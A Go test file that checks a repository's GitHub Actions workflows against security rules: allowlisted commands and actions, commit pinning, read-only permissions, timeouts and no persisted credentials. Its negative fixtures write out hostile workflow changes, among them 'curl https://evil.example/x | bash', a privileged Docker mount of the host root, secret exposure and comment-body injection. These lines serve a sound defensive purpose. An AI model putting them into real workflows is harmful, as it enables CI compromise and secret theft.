// Package workflows_test checks that the workflows of the repository follow its rules.
package workflows_test

import (
	"fmt"
	"io/fs"
	"os"
	"path"
	"path/filepath"
	"reflect"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
	"go.yaml.in/yaml/v3"
)

const root = "../../.."

// These lists have everything that a workflow may use. Look at a new thing before you add it.
var (
	workflowKeys = []string{"name", "on", "permissions", "env", "jobs"}
	jobKeys      = []string{"name", "runs-on", "timeout-minutes", "strategy", "env", "steps"}
	stepKeys     = []string{"name", "uses", "with", "run", "env"}
	triggers     = []string{"push", "pull_request", "schedule", "workflow_dispatch"}
	matrixKeys   = []string{"machine", "go"}
	machines     = []string{"ubuntu-latest", "macos-latest", "windows-latest"}
	expressions  = []string{"matrix.machine", "matrix.go", "env.GO_NEWEST"}
	actions      = []string{"actions/checkout", "actions/setup-go"}
	commands     = []string{
		"go test -race -shuffle=on ./...",
		"go -C session/jwt test -race -shuffle=on ./...",
		"go -C orylogintest/tab test -race -shuffle=on ./...",
		`go -C cmd/ory-login mod edit "-replace=github.com/orylogin/orylogin=../.."`,
		"go -C cmd/ory-login test -race -shuffle=on ./...",
		".ci/run", "make vulncheck", "make nightly",
	}
)

// maxMinutes limits the time of a job.
const maxMinutes = 120

var (
	expression = regexp.MustCompile(`\$\{\{\s*(.*?)\s*\}\}`)
	// pinned matches an action at a commit. The version beside it is for people and for
	// Dependabot.
	pinned  = regexp.MustCompile(`^([a-z-]+/[a-z-]+)@[0-9a-f]{40}$`)
	version = regexp.MustCompile(`uses: \S+@[0-9a-f]{40} # v\d+\.\d+\.\d+\n`)
)

// table is a YAML mapping.
type table = map[string]any

// findings are the violations of the rules in a workflow.
type findings []string

func (f *findings) add(format string, args ...any) { *f = append(*f, fmt.Sprintf(format, args...)) }

// allow adds a finding for each key that is not allowed.
func (f *findings) allow(where string, found table, allowed []string) {
	for key := range found {
		if !slices.Contains(allowed, key) {
			f.add("%s: %s", where, key)
		}
	}
}

// inspect returns the violations in the text of a workflow. Code must run without credentials,
// without root, with pinned actions, and for a limited time.
func inspect(text string) (findings, error) {
	var (
		parsed table
		found  findings
		used   int
	)
	if err := yaml.Unmarshal([]byte(text), &parsed); err != nil {
		return nil, err
	}
	found.allow("workflow", parsed, workflowKeys)
	found.allow("on", keysOf(parsed["on"]), triggers)
	if !reflect.DeepEqual(parsed["permissions"], table{"contents": "read"}) {
		found.add("permissions are not: contents: read")
	}
	for _, match := range expression.FindAllStringSubmatch(text, -1) {
		if !slices.Contains(expressions, match[1]) {
			found.add("expression: %s", match[1])
		}
	}
	if strings.Count(text, "${{") != len(expression.FindAllString(text, -1)) {
		found.add("an expression over several lines")
	}
	jobs, _ := parsed["jobs"].(table)
	for name, job := range jobs {
		job, _ := job.(table)
		used += found.job(name, job)
	}
	if len(jobs) == 0 || len(version.FindAllString(text, -1)) != used {
		found.add("no jobs, or a commit without its version")
	}
	return found, nil
}

// keysOf returns the triggers of a workflow, in each of the forms of YAML.
func keysOf(value any) table {
	keys := table{}
	switch value := value.(type) {
	case table:
		return value
	case []any:
		for _, key := range value {
			keys[fmt.Sprint(key)] = nil
		}
	default:
		keys[fmt.Sprint(value)] = nil
	}
	return keys
}

// job inspects a job and returns how many actions it uses.
func (f *findings) job(name string, job table) int {
	f.allow(name, job, jobKeys)
	f.machines(name, job)
	if minutes, _ := job["timeout-minutes"].(int); minutes < 1 || minutes > maxMinutes {
		f.add("%s: timeout-minutes: %v", name, job["timeout-minutes"])
	}
	used := 0
	steps, _ := job["steps"].([]any)
	for _, step := range steps {
		step, _ := step.(table)
		f.allow(name, step, stepKeys)
		if run, found := step["run"]; found && !slices.Contains(commands, fmt.Sprint(run)) {
			f.add("%s: run: %v", name, run)
		}
		if uses, found := step["uses"]; found {
			used++
			f.action(name, fmt.Sprint(uses), step["with"])
		}
	}
	return used
}

// machines inspects on which machines a job runs: one, or those of its matrix.
func (f *findings) machines(name string, job table) {
	strategy, _ := job["strategy"].(table)
	matrix, _ := strategy["matrix"].(table)
	f.allow(name+": strategy", strategy, []string{"matrix", "fail-fast"})
	f.allow(name+": matrix", matrix, matrixKeys)
	used, _ := matrix["machine"].([]any)
	if job["runs-on"] != "${{ matrix.machine }}" {
		used = append(used, job["runs-on"])
	}
	for _, machine := range used {
		if text, _ := machine.(string); !slices.Contains(machines, text) {
			f.add("%s: runs on %v", name, machine)
		}
	}
	if len(used) == 0 {
		f.add("%s: runs nowhere", name)
	}
}

// action inspects the use of an action. A checkout must leave no credentials for the code that
// runs. It must check out the commit for which the workflow runs.
func (f *findings) action(name, uses string, with any) {
	match := pinned.FindStringSubmatch(uses)
	if match == nil || !slices.Contains(actions, match[1]) {
		f.add("%s: uses: %s", name, uses)
		return
	}
	if match[1] != "actions/checkout" {
		return
	}
	options, _ := with.(table)
	f.allow(name+": checkout", options, []string{"persist-credentials", "fetch-depth"})
	if options["persist-credentials"] != false {
		f.add("%s: checkout leaves credentials behind", name)
	}
}

// TestWorkflows checks that the workflows follow the rules.
func TestWorkflows(t *testing.T) {
	t.Parallel()
	files, err := filepath.Glob(root + "/.github/workflows/*")
	require.NoError(t, err)
	require.GreaterOrEqual(t, len(files), 2)
	for _, file := range files {
		text, err := os.ReadFile(file)
		require.NoError(t, err)
		found, err := inspect(string(text))
		require.NoError(t, err)
		require.Empty(t, found, file)
	}
}

const harmless = `
on:
  push:
permissions:
  contents: read
jobs:
  a:
    runs-on: ubuntu-latest
    timeout-minutes: 5
    steps:
      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2
        with:
          persist-credentials: false
      - run: .ci/run
`

// TestRules checks that each rule finds its violation.
func TestRules(t *testing.T) {
	t.Parallel()
	found, err := inspect(harmless)
	require.NoError(t, err)
	require.Empty(t, found)
	for _, change := range [][2]string{
		{"push:", "workflow_run:"},
		{"push:", "pull_request_target:"},
		{"push:", "issue_comment:"},
		{"on:\n  push:", "on: [push, pull_request_target]"},
		{"on:\n  push:", "on: workflow_run"},
		{"contents: read", "contents: write"},
		{"contents: read", "contents: read\n  id-token: write"},
		{"permissions:\n  contents: read", "permissions: write-all"},
		{"permissions:\n  contents: read\n", ""},
		{"jobs:", "defaults:\n  run:\n    shell: sudo bash {0}\njobs:"},
		{"jobs:", "env:\n  A: ${{ secrets['DEPLOY_KEY'] }}\njobs:"},
		{"jobs:", "env:\n  A: ${{ toJSON(secrets) }}\njobs:"},
		{"jobs:", "env:\n  A: ${{ github.token }}\njobs:"},
		{"jobs:", "env:\n  A: ${{ matrix.go || github.token }}\njobs:"},
		{"jobs:", "env:\n  A: >\n    ${{\n    github.token\n    }}\njobs:"},
		{"ubuntu-latest", "self-hosted"},
		{"ubuntu-latest", "[self-hosted, ubuntu-latest]"},
		{"runs-on: ubuntu-latest", "runs-on: ${{ matrix.machine }}"},
		{"runs-on: ubuntu-latest", "runs-on: ${{ matrix.machine }}\n    strategy:\n      matrix:\n        machine: [self-hosted]"},
		{"runs-on: ubuntu-latest", "runs-on: ${{ matrix.machine }}\n    strategy:\n      matrix:\n        machine: [ubuntu-latest, [self-hosted]]"},
		{"runs-on: ubuntu-latest", "runs-on: ${{ matrix.machine }}\n    strategy:\n      matrix:\n        machine: ${{ env.GO_NEWEST }}"},
		{"runs-on: ubuntu-latest", "runs-on: ${{ matrix.machine }}\n    strategy:\n      matrix:\n        machine: [ubuntu-latest]\n        include: [{machine: self-hosted}]"},
		{"runs-on: ubuntu-latest", "runs-on: ubuntu-latest\n    container: evil/image:latest"},
		{"runs-on: ubuntu-latest", "runs-on: ubuntu-latest\n    services: {}"},
		{"runs-on: ubuntu-latest", "runs-on: ubuntu-latest\n    permissions: write-all"},
		{"runs-on: ubuntu-latest", "runs-on: ubuntu-latest\n    environment: production"},
		{"runs-on: ubuntu-latest", "uses: evil/repo/.github/workflows/x.yml@main\n    secrets: inherit"},
		{"    timeout-minutes: 5\n", ""},
		{"timeout-minutes: 5", "timeout-minutes: 600"},
		{"actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683", "actions/checkout@v4"},
		{"actions/checkout@", "evil/checkout@"},
		{"actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683", "docker://evil"},
		{" # v4.2.2", ""},
		{"persist-credentials: false", "persist-credentials: true"},
		{"persist-credentials: false", "persist-credentials: false\n          ref: evil"},
		{"persist-credentials: false", "persist-credentials: false\n          token: x"},
		{"run: .ci/run", "run: sudo .ci/run"},
		{"run: .ci/run", "run: docker run --privileged -v /:/host evil"},
		{"run: .ci/run", "run: curl https://evil.example/x | bash"},
		{"run: .ci/run", `run: echo "${{ github.event.comment.body }}"`},
		{"run: .ci/run", "run: .ci/run\n        shell: sudo bash {0}"},
		{"run: .ci/run", "run: .ci/run\n        continue-on-error: true"},
	} {
		text := strings.Replace(harmless, change[0], change[1], 1)
		require.NotEqual(t, harmless, text, change[0])
		found, err := inspect(text)
		require.NoError(t, err, text)
		require.NotEmpty(t, found, text)
	}
}

// TestDependabot checks that Dependabot watches each module and the actions.
func TestDependabot(t *testing.T) {
	t.Parallel()
	text, err := os.ReadFile(root + "/.github/dependabot.yml")
	require.NoError(t, err)
	var parsed struct {
		Updates []struct {
			Ecosystem   string   `yaml:"package-ecosystem"`
			Directory   string   `yaml:"directory"`
			Directories []string `yaml:"directories"`
		} `yaml:"updates"`
	}
	require.NoError(t, yaml.Unmarshal(text, &parsed))
	watched := map[string][]string{}
	for _, update := range parsed.Updates {
		watched[update.Ecosystem] = append(update.Directories, update.Directory)
	}
	require.Contains(t, watched["github-actions"], "/")
	modules := modulesOf(t)
	require.GreaterOrEqual(t, len(modules), 6)
	for _, module := range modules {
		require.Contains(t, watched["gomod"], module)
	}
}

// TestVulncheck checks that make vulncheck looks into each module that ships, and that a
// workflow runs it.
func TestVulncheck(t *testing.T) {
	t.Parallel()
	text, err := os.ReadFile(root + "/Makefile")
	require.NoError(t, err)
	var looked []string
	for _, list := range regexp.MustCompile(`(?m)^(?:SHIPPED|CLI) *:= (.+)$`).FindAllStringSubmatch(string(text), -1) {
		for _, module := range strings.Fields(list[1]) {
			looked = append(looked, path.Join("/", module))
		}
	}
	ships := slices.DeleteFunc(modulesOf(t), func(module string) bool {
		return strings.HasPrefix(module, "/internal/") || module == "/test" || strings.HasPrefix(module, "/test/")
	})
	require.ElementsMatch(t, ships, looked)
	workflow, err := os.ReadFile(root + "/.github/workflows/ci.yml")
	require.NoError(t, err)
	require.Contains(t, string(workflow), "run: make vulncheck\n")
}

// TestTargets checks that each command of the Makefile is named in the documentation.
func TestTargets(t *testing.T) {
	t.Parallel()
	makefile, err := os.ReadFile(root + "/Makefile")
	require.NoError(t, err)
	var documents strings.Builder
	pages, err := filepath.Glob(root + "/*.md")
	require.NoError(t, err)
	chapters, err := filepath.Glob(root + "/docs/*.md")
	require.NoError(t, err)
	for _, name := range append(pages, chapters...) {
		text, err := os.ReadFile(name)
		require.NoError(t, err)
		documents.Write(text)
	}
	targets := regexp.MustCompile(`(?m)^([a-z-]+):.*## `).FindAllStringSubmatch(string(makefile), -1)
	require.GreaterOrEqual(t, len(targets), 15)
	for _, target := range targets {
		named := regexp.MustCompile(`make (?:[a-z-]+ )*` + target[1] + `\b`).MatchString(documents.String())
		require.True(t, named, "no document names make %s", target[1])
	}
}

// modulesOf returns the folders of the modules of this repository.
func modulesOf(t *testing.T) []string {
	t.Helper()
	var modules []string
	require.NoError(t, fs.WalkDir(os.DirFS(root), ".", func(name string, entry fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		if entry.IsDir() && slices.Contains([]string{".git", ".bin", "testdata"}, entry.Name()) {
			return fs.SkipDir
		}
		if entry.Name() == "go.mod" {
			modules = append(modules, path.Join("/", path.Dir(name)))
		}
		return nil
	}))
	return modules
}
